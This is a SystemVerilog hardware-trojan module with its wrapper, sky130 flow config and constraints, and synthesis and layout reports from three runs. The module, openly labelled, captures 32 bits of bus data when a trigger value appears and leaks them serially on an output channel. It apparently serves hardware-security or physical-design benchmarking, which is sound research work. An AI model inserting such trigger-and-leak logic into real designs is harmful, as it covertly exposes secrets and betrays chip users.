**src/rtl/trojan_leak_gen_if.sv**
```systemverilog
// rtl/trojan_leak_gen_if.sv - observed bus and leak outputs bundled for trojan_leak_gen
interface trojan_leak_gen_if #(
    parameter int DATA_W = 64,
    parameter int SYM_W  = 2
);
    logic [DATA_W-1:0] data;
    logic              leak_en;
    logic [SYM_W-1:0]  leak_sym;
    logic              busy;

    // Environment side: drives the observed bus, watches the leak channel
    modport master (
        output data,
        input  leak_en,
        input  leak_sym,
        input  busy
    );

    // Block side: observes the bus, produces the leak channel
    modport slave (
        input  data,
        output leak_en,
        output leak_sym,
        output busy
    );
endinterface

```
**src/rtl/trojan_leak_gen.sv**
```systemverilog
// rtl/trojan_leak_gen.sv - trigger-armed key capture and serial symbol leak generator
module trojan_leak_gen #(
    parameter int                 DATA_W     = 64,
    parameter int                 TRIG_W     = 64,
    parameter logic [DATA_W-1:0]  TRIG_VAL   = DATA_W'(64'h44ab93),
    parameter int                 SLICE_W    = 8,
    parameter int                 NUM_SLICES = 4,
    parameter int                 SYM_W      = 2,
    parameter int                 REPEAT     = 1
) (
    input  logic              clk,
    input  logic              rst_all_n,
    trojan_leak_gen_if.slave  bus
);
    localparam int SLICES   = DATA_W / SLICE_W;
    localparam int SEL_W    = (SLICES > 1) ? $clog2(SLICES) : 1;
    localparam int KEY_W    = SLICE_W * NUM_SLICES;
    localparam int LEAK_CYC = KEY_W / SYM_W;
    localparam int LEAK_LEN = LEAK_CYC * REPEAT;
    // One counter serves both CAPTURE and LEAK, so it must hold the larger span
    localparam int CNT_MAX  = (LEAK_LEN > NUM_SLICES) ? LEAK_LEN - 1 : NUM_SLICES - 1;
    localparam int CNT_W    = (CNT_MAX > 0) ? $clog2(CNT_MAX + 1) : 1;

    localparam logic [CNT_W-1:0] CAP_LAST  = CNT_W'(NUM_SLICES - 1);
    localparam logic [CNT_W-1:0] LEAK_LAST = CNT_W'(LEAK_LEN - 1);
    localparam logic [SEL_W-1:0] SEL_LAST  = SEL_W'(SLICES - 1);

    typedef enum logic [1:0] {IDLE, CAPTURE, LEAK} state_t;

    state_t             state;
    logic [CNT_W-1:0]   cnt;
    logic [SEL_W-1:0]   sel;
    logic [SEL_W-1:0]   sel_d;
    logic [KEY_W-1:0]   key;
    logic [KEY_W-1:0]   key_next;
    logic [SEL_W-1:0]   sel_eff;
    logic [SLICE_W-1:0] slice_val;
    logic               trig;

    assign trig = (bus.data[TRIG_W-1:0] == TRIG_VAL[TRIG_W-1:0]);

    // Next key value: slice insertion while capturing, rotate-right by one symbol while leaking
    always_comb begin
        key_next  = key;
        sel_eff   = (int'(sel) >= SLICES) ? SEL_LAST : sel;
        slice_val = bus.data[int'(sel_eff)*SLICE_W +: SLICE_W];
        if (state == CAPTURE) begin
            key_next[int'(cnt)*SLICE_W +: SLICE_W] = slice_val;
        end else if (state == LEAK) begin
            key_next = (key >> SYM_W) | (key << (KEY_W - SYM_W));
        end
    end

    // Control FSM; every output is a flop so the leak channel carries no data-path logic
    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            state        <= IDLE;
            cnt          <= '0;
            sel          <= '0;
            sel_d        <= '0;
            key          <= '0;
            bus.leak_en  <= 1'b0;
            bus.leak_sym <= '0;
            bus.busy     <= 1'b0;
        end else begin
            sel_d <= bus.data[SEL_W-1:0];
            case (state)
                IDLE: begin
                    if (trig) begin
                        sel      <= sel_d;
                        cnt      <= '0;
                        state    <= CAPTURE;
                        bus.busy <= 1'b1;
                    end
                end
                CAPTURE: begin
                    key <= key_next;
                    if (cnt == CAP_LAST) begin
                        cnt          <= '0;
                        state        <= LEAK;
                        bus.leak_en  <= 1'b1;
                        bus.leak_sym <= key_next[SYM_W-1:0];
                    end else begin
                        cnt <= cnt + 1'b1;
                    end
                end
                LEAK: begin
                    key <= key_next;
                    if (cnt == LEAK_LAST) begin
                        cnt          <= '0;
                        state        <= IDLE;
                        bus.busy     <= 1'b0;
                        bus.leak_en  <= 1'b0;
                        bus.leak_sym <= '0;
                    end else begin
                        cnt          <= cnt + 1'b1;
                        bus.leak_sym <= key_next[SYM_W-1:0];
                    end
                end
                default: begin
                    state <= IDLE;
                end
            endcase
        end
    end
endmodule

```
**src/flat_wrapper.sv**
```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module trojan_leak_gen_flat 
#(
    parameter int                 DATA_W     = 64,
    parameter int                 TRIG_W     = 64,
    parameter logic [DATA_W-1:0]  TRIG_VAL   = DATA_W'(64'h44ab93),
    parameter int                 SLICE_W    = 8,
    parameter int                 NUM_SLICES = 4,
    parameter int                 SYM_W      = 2,
    parameter int                 REPEAT     = 1
)
  (clk, rst_all_n, bus_data, bus_leak_en, bus_leak_sym, bus_busy);
  trojan_leak_gen_if #(.DATA_W(DATA_W), .SYM_W(SYM_W)) bus_i ();
  input  logic clk;
  input  logic rst_all_n;
  input wire logic [$bits(bus_i.data)-1:0] bus_data;
  output wire logic [$bits(bus_i.leak_en)-1:0] bus_leak_en;
  output wire logic [$bits(bus_i.leak_sym)-1:0] bus_leak_sym;
  output wire logic [$bits(bus_i.busy)-1:0] bus_busy;
  assign bus_i.data = bus_data;
  assign bus_leak_en = bus_i.leak_en;
  assign bus_leak_sym = bus_i.leak_sym;
  assign bus_busy = bus_i.busy;
  trojan_leak_gen #(.DATA_W(DATA_W), .TRIG_W(TRIG_W), .TRIG_VAL(TRIG_VAL), .SLICE_W(SLICE_W), .NUM_SLICES(NUM_SLICES), .SYM_W(SYM_W), .REPEAT(REPEAT)) u_core (.clk(clk), .rst_all_n(rst_all_n), .bus(bus_i));
endmodule
```
**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = trojan_leak_gen_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/trojan_leak_gen_if.sv /design/src/rtl/trojan_leak_gen.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CORE_MARGIN = 10
export CORE_UTILIZATION = 35
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.57
export SETUP_SLACK_MARGIN = 0.15
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 2.9 [get_ports clk]
set_input_delay 0.58 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.58 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
```
== After elaboration in Yosys (flattened, before gate mapping) ==
Cells that the tools add are included.
Operators by class
  reductions and logical operators: 11
  mux-type cells: 18
  shift operators: 3
  eq/ne operators: 8
  add/subtract/negate cells: 2
  bitwise gates (word level): 1
Operator list (count)
  $eq A64 B23 Y1 const B: 1
  $shiftx A64 B7 Y8: 1
  $neg A7 Y33: 1
  $shift A8 B33 Y32 const A: 1
  $shiftx A8 B33 Y32: 1
  $bwmux W32: 1
  $mux W32: 1
  $or A30 B32 Y32: 1
  $mux W4: 3
  $pmux W4 S3: 1
  $mux W2: 5
  $reduce_and A3 Y1: 3
  $pmux W2 S3: 1
  $reduce_and A2 Y1: 3
  $add A4 B1 Y4 const B: 1
  $eq A4 B2 Y1 const B: 1
  $eq A4 B4 Y1 const B: 1
  $ne A2 B2 Y1 const B: 2
  $pmux W1 S2: 2
  $pmux W2 S2: 1
  $reduce_bool A2 Y1: 2
  $mux W1: 3
  $reduce_bool A3 Y1: 1
  $eq A2 B1 Y1 const B: 1
  other kinds (4): 4
Word-level totals
  output and inout bits: 4
  register bits: 48
  word-level logic and storage cells: 51
  bits of input ports: 66

== Logic depth before layout (Yosys ltp) ==
Gate-level depths: netlist (run 1).
  depth in word-level cells: 6
  mapped depth: 9
  mapped depth without buffers: 7

== Least setup slack after synthesis (run 1) ==
No wires, ideal clock.
  path kind: flip-flop to flip-flop
  start: reg u_core.cnt[2]
  end: reg u_core.key[0]
  setup slack: 0.431 ns
  library setup time: 0.128 ns
  period minus slack after synthesis: 2.469 ns
  cell stages (with the launch flop): 10
  path buffers: 2
  data arrival time: 2.342 ns
  required time: 2.772 ns
  path through: dfrtp_1 -> buf_2 -> or3_1 -> ha_1 -> clkbuf_1 -> nor4_1 -> nand4_1 -> mux2_2 -> mux2i_1 -> a21oi_1
On the way
  longest elaborated chain between the ends: 4
  elaborated cells on any way between the ends: 5
  classes of those cells: 1 x add/sub; 2 x shift; 2 x mux
RTL lines
  start: declaration: line trojan_leak_gen.sv:31  | logic [CNT_W-1:0] cnt;
  start signal: assignment: line trojan_leak_gen.sv:84  | cnt <= cnt + 1'b1;
  start signal: assignment: line trojan_leak_gen.sv:96  | cnt <= cnt + 1'b1;
  $neg A7 Y33 *: line trojan_leak_gen.sv:48  | key_next[int'(cnt)*SLICE_W +: SLICE_W] = slice_val;
  $shiftx A8 B33 Y32 / $shift A8 B33 Y32 (equally long branches): line trojan_leak_gen.sv:48
  $bwmux W32 *: line trojan_leak_gen.sv:48
  $mux W32 *: line trojan_leak_gen.sv:47  | if (state == CAPTURE) begin
  end signal: assignment: line trojan_leak_gen.sv:77  | key <= key_next;
  end signal: assignment: line trojan_leak_gen.sv:88  | key <= key_next;
  end: declaration: line trojan_leak_gen.sv:34  | logic [KEY_W-1:0] key;
Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
A chain may end at the register's enable or synchronous reset.

== Worst setup path after layout (run 1) ==
  start: reg u_core.cnt[0]
  end: reg u_core.bus.leak_sym[0]
On the way
  longest elaborated chain between the ends: 6
  elaborated cells on any way between the ends: 12
  classes of those cells: 1 x add/sub; 3 x eq/ne; 2 x shift; 5 x mux; 1 x reduce/logical
RTL lines
  $neg A7 Y33: line trojan_leak_gen.sv:48
  $shiftx A8 B33 Y32 / $shift A8 B33 Y32 (equally long branches): line trojan_leak_gen.sv:48
  $bwmux W32: line trojan_leak_gen.sv:48
  $mux W32: line trojan_leak_gen.sv:47
  $mux W2 (on tied branches): line trojan_leak_gen.sv:89, trojan_leak_gen.sv:78
  $pmux W2 S2: line trojan_leak_gen.sv:67  | case (state)
  end signal: assignment: line trojan_leak_gen.sv:82  | bus.leak_sym <= key_next[SYM_W-1:0];
  end signal: assignment: line trojan_leak_gen.sv:97  | bus.leak_sym <= key_next[SYM_W-1:0];
  end: declaration: line trojan_leak_gen_if.sv:23  | output leak_sym,
Several ways; a longest one is shown, not always the timed one. The select of a mux whose other input is x is not followed.

==> reports/qor.txt, run 1 <==
number of synthesis warnings = 0
number of routed nets with antenna violations = 0
Slew HR = 54.5%
Fmax achieved = 393 MHz
Syn-to-layout area delta = 30.4%
grt ovf = 0
Tot Pwr = 1450 uW
drt pass-1 iters = 5
die extent in y = 115 um
die area = 13300 um^2
final instance area = 4160 um^2
post-synth top area cell = dfrtp_1
CTS tree = built
first-pass GRT wire length = 16000 um
crit-path cells = or3_1 > ha_1 > buf_4 > nor4_1 > nand4_1 > mux2_2 > mux2i_1 > o21ai_1
Vias per Instance = 5.88
Worst Path Max Fanout = 11
Max-Cap Viols = 0
synth top area cells = dfrtp_1 38%, mux4_2 6.4%, mux4_1 5.8%
critical path arrival = 2.74 ns
postcts setup bufs = 0
crit end category = flop
DP HPWL = 8210 um
Hold Crit Class = in -> async
Reg clk slew, reported paths = 0.09 ns
Row Count = 34
CP Launch Type = flop
Gate Count Post-Synth = 299
RD Place Congestion = 0.920
cell with the most instances after synthesis = dfrtp_1
count of state elements after synthesis = 48
cell area after synthesis = 3190 um^2
Slowest cell on crit path = dfrtp_1
Total Wirelength = 10200 um
EDFF count, synth = 0
Syn Area/Cell = 10.7 um^2
Hold WS = 0.257 ns
core area = 8810 um^2
# resized after CTS = 0
RSZ-0062 raised after global routing = no
final setup TNS = 0 ns
Clock Tree Buf Depth = 2
Clock Skew = 0.00296 ns
clock root cell = clkbuf_8
slowest cell delay on critical path = 0.50 ns
CP top delay family = simple AND/OR/NAND/NOR gates
wire per inst = 21.1 um
Seq/Total Area, Yosys = 37.7%
Tmin final = 2.55 ns
layout cell share with drive strength beyond 1 = 12.3%
Reg area = 1200 um^2
Post-DP Area = 4020 um^2
CTS sink cnt = 48
fraction of registers with async set/reset = 100%
initial core utilization = 36.2%
area used by multi-input combinational logic = 1890 um^2
CTS buffer count = 5
DRC violations left = 0
WP data required = 3.09 ns
crit path kind = reg -> reg
crit path buf inv count = 1
Global Route Usage Sum = 15.2%
Clk Latency, worst-skew pair = 0.30 ns
VDD IR max = 0.000195 V
Inserted Diodes = 0
Nets = 447
post-synth cell types = 47
Hold Fails Final Rpt = 0
largest net degree at the start of global routing = 26
initial antenna violation count = 0
detailed router's first-iteration violation count = 152
LEAKAGE = 0.00156 uW
status = finished clean
Pins Over Slew Limit = 0
total of fill cells in the finished design = 816
fin crit share = 87.8%
Mapped Nets = 374
hold-fix buffers at CTS = 0
via count = 2827
Top FF cell, synth = dfrtp_1
final setup fails = 0
Worst Tran Pin Value = 0.683 ns
Post-synth top cells = 48 x dfrtp_1, 22 x a21oi_1, 17 x nor4_1
chip width = 115 um
htree depth = 2
power per standard cell area = 348 nW/um^2
post-synth top area share = 37.7%
vias in the first global route = 2895
I/O Pins = 70
port bufs = 69
[logic make-up (layout without fill, tap and decap cells)]
kind of cell	Yosys count	count (layout)	synth area share, %
adders and majority gates	9	9	3.53
and+or+nand+nor	112	112	21.7
buffers and inverters	22	96	3.22
xor gates and xnor gates	2	2	0.549
DFF	48	48	37.7
AOI/OAI and AO/OA	71	71	14.8
muxes	35	35	18.5
[area by class of cell]
class / count / area share (%)
multi-input cells: 229 / 45.4
flip-flops and latches: 48 / 28.9
repair buffers: 80 / 18.5
well taps: 108 / 3.25
clock buffers: 5 / 1.66
clock inverters: 3 / 1.66
inverters: 8 / 0.722
[routing by layer]
layer  vias up  wire [um]  GRT usage [%]
li1       1340          -              -
met1      1392       4570           20.3
met2        89       5070           25.7
met3         6        427           2.53
met4         0         87           2.70
met5         -          0              0
[stage by stage]
stage,utilization [%],std cells,setup slack (ns)
2_1_floorplan,-,299,0.431
3_3_place_gp,45.7,473,0.146
6_report,47.2,481,0.355
3_5_place_dp,45.7,473,0.129
5_1_grt,47.2,481,0.246
4_1_cts,47.2,481,0.357
[power by group]
| group | switching [uW] | internal, uW |
|---|---|---|
| Clock | 246 | 347 |
| Sequential | 3.26 | 675 |
| Combinational | 68.0 | 109 |
[state kept, by name, summed over array words and instances (netlist names)]
name                 count
u_core.bus.leak_sym      2
u_core.bus.leak_en       1
u_core.key              32
u_core.cnt               4
u_core.state             2
u_core.bus.busy          1
u_core.sel_d             3
u_core.sel               3
[worst paths after layout]
| check | start | to | slack [ns] | depth (start not counted) |
|---|---|---|---|---|
| max | u_core.cnt[0]$_DFFE_PN0P_ | u_core.bus.leak_sym[0]$_DFFE_PN0P_ | 0.35 | 8 |
| min | rst_all_n | u_core.key[23]$_DFFE_PN0P_ | 0.26 | 1 |
| max reg2reg | u_core.cnt[0]$_DFFE_PN0P_ | u_core.bus.leak_sym[0]$_DFFE_PN0P_ | 0.35 | 8 |
| min reg2reg | u_core.sel_d[1]$_DFF_PN0_ | u_core.sel[1]$_DFFE_PN0P_ | 0.49 | 1 |
| max in group asynchronous | rst_all_n | u_core.cnt[2]$_DFFE_PN0P_ | 1.91 | 2 |
| min in group clk | u_core.sel_d[1]$_DFF_PN0_ | u_core.sel[1]$_DFFE_PN0P_ | 0.49 | 1 |
[cell usage in the layout, fill, tap and decap left out, drive strengths merged, types with 3 or more instances in the layout]
cell type,count
clkdlybuf4s50,68
dfrtp,48
a21oi,22
nor4,17
nor2,16
mux4,16
nand2,13
o22ai,12
buf,12
nand2b,11
mux2,11
nand4,11
nor4b,10
o21ai,10
ha,9
inv,9
a221o,8
mux2i,8
nor2b,5
nor3,5
nor4bb,5
nand3,5
clkbuf,5
and2,4
or3,3
a21o,3
a31oi,3
No activity file was read; power rests on OpenSTA's default activity.
==> run 2: changes to the inputs <==
Settings changed: GPL_TIMING_DRIVEN set to 1.
==> results of run 2 <==
No change in the layout: final DEF, timing and power equal those of run 1.
==> run 3: changes to the inputs <==
Settings changed: CORE_UTILIZATION 35 to 42, PLACE_DENSITY 0.57 to 0.66.
==> reports/qor.txt, run 3 (same netlist as run 1, synthesis figures left out) <==
Hold Crit Class = in -> async
area used by multi-input combinational logic = 1890 um^2
Hold Fails Final Rpt = 0
number of routed nets with antenna violations = 0
WP data required = 3.10 ns
first-pass GRT wire length = 15600 um
# resized after CTS = 0
grt ovf = 0
vias in the first global route = 2936
detailed router's first-iteration violation count = 167
Vias per Instance = 6.03
Regs by FF count = u_core.key (32), u_core.cnt (4)
Reg clk slew, reported paths = 0.10 ns
worst setup margin = 0.389 ns
final std cells w/o fill = 471
Inserted Diodes = 0
Syn-to-layout area delta = 29.3%
clock root cell = clkbuf_8
crit-path cells = clkdlybuf4s50_1 > nor4b_1 > nand4_1 > nor4_1 > buf_4 > nand2_1 > mux2_2
initial core utilization = 43.5%
Worst Tran Pin Value = 1.09 ns
final setup fails = 0
Total Wirelength = 9780 um
Clock Tree Buf Depth = 2
critical path arrival = 2.71 ns
total of fill cells in the finished design = 672
slowest cell delay on critical path = 0.52 ns
status = finished clean
Clk Latency, worst-skew pair = 0.31 ns
die area = 11500 um^2
power per standard cell area = 335 nW/um^2
Tmin final = 2.51 ns
layout cell share with drive strength beyond 1 = 12.1%
Largest Register = u_core.key
wire per inst = 20.8 um
final setup TNS = 0 ns
Row Count = 31
DP HPWL = 7830 um
Worst Path Max Fanout = 3
fin crit share = 86.6%
cell count after placement = 463
Clock Skew = 0.00973 ns
Slowest cell on crit path = nor4b_1
I/O Pins = 70
VDD IR max = 0.000194 V
pre-CTS setup slack = 0.0769 ns
RD Place Congestion = 0.923
CTS buffer count = 5
Tot Pwr = 1380 uW
Pins Over Slew Limit = 0
drt pass-1 iters = 5
Hold WS = 0.192 ns
crit end category = flop
commonest non-fill, non-tap cells in the layout = 68 x clkdlybuf4s50_1, 48 x dfrtp_1, 22 x a21oi_1, 17 x nor4_1, 16 x nor2_1
CP Launch Type = primary input
crit path kind = in -> reg
port bufs = 69
DRC violations left = 0
CTS tree = built
initial antenna violation count = 0
Max-Cap Viols = 0
Slew HR = 26.8%
max reg flops = 32
LEAKAGE = 0.00154 uW
postcts setup bufs = 0
via count = 2839
Reg area = 1200 um^2
core area = 7330 um^2
Fmax achieved = 398 MHz
RSZ-0062 raised after global routing = no
die extent in y = 107 um
largest net degree at the start of global routing = 30
hold-fix buffers at CTS = 0
Nets = 446
CTS sink cnt = 48
Global Route Usage Sum = 17.0%
commonest non-fill, non-tap cell in the layout = clkdlybuf4s50_1
chip width = 107 um
htree depth = 2
-- run 3: changes by cell type in the layout (fill, tap and decap cells not counted) --
cell       previous run  this run
clkinv_4              0         1
bufinv_16             2         1
inv_6                 1         0
clkbuf_8              5         6
buf_4                11        10
-- run 3: path summary, 6_finish.rpt --
path | slack [ns] | cells after the start | start | endpoint
setup / recovery | 0.39 | 7 | bus_data[19] | u_core.sel[2]$_DFFE_PN0P_
hold / removal | 0.19 | 1 | rst_all_n | u_core.key[20]$_DFFE_PN0P_
setup reg to reg | 0.45 | 6 | u_core.cnt[0]$_DFFE_PN0P_ | u_core.key[20]$_DFFE_PN0P_
hold reg to reg | 0.49 | 1 | u_core.sel_d[2]$_DFF_PN0_ | u_core.sel[2]$_DFFE_PN0P_
max in group asynchronous | 1.94 | 2 | rst_all_n | u_core.sel_d[1]$_DFF_PN0_
min in group clk | 0.49 | 1 | u_core.sel_d[2]$_DFF_PN0_ | u_core.sel[2]$_DFFE_PN0P_
-- run 3: power by group --
| part | internal [uW] | total (uW) | switching (uW) |
|---|---|---|---|
| Combinational | 109 | 174 | 65.5 |
| Sequential | 675 | 678 | 3.30 |
| Clock | 282 | 527 | 244 |
| Total | 1070 | 1380 | 313 |
-- run 3: metal layers --
metal,up-vias,GRT usage (%),part of all wire [%]
li1,1334,-,-
met1,1419,22.0,44
met2,76,28.8,50
met3,10,3.53,4.8
met4,0,3.09,0.86
met5,-,0,0
-- run 3: area by class of cell --
| type | instances | area share (%) |
|---|---|---|
| multi-input combinational | 229 | 45.7 |
| clock buffer | 6 | 2.00 |
| clock inverter | 2 | 0.941 |
| inverter | 8 | 0.728 |
| timing repair buffer | 79 | 18.5 |
| sequential | 48 | 29.1 |
| tap | 99 | 3.00 |
-- run 3: stage by stage --
step,area (um^2),util (%)
6_report,4120,56.2
3_3_place_gp,4000,54.6
4_1_cts,4120,56.2
2_1_floorplan,3190,-
3_5_place_dp,4000,54.6
5_1_grt,4120,56.2
-- run 3: worst max-delay path, delay by kind of cell --
kind	cells	cell delay [ns]
buffers and inverters	2	0.61
multiplexers	1	0.30
AND/OR/NAND/NOR	4	1.21
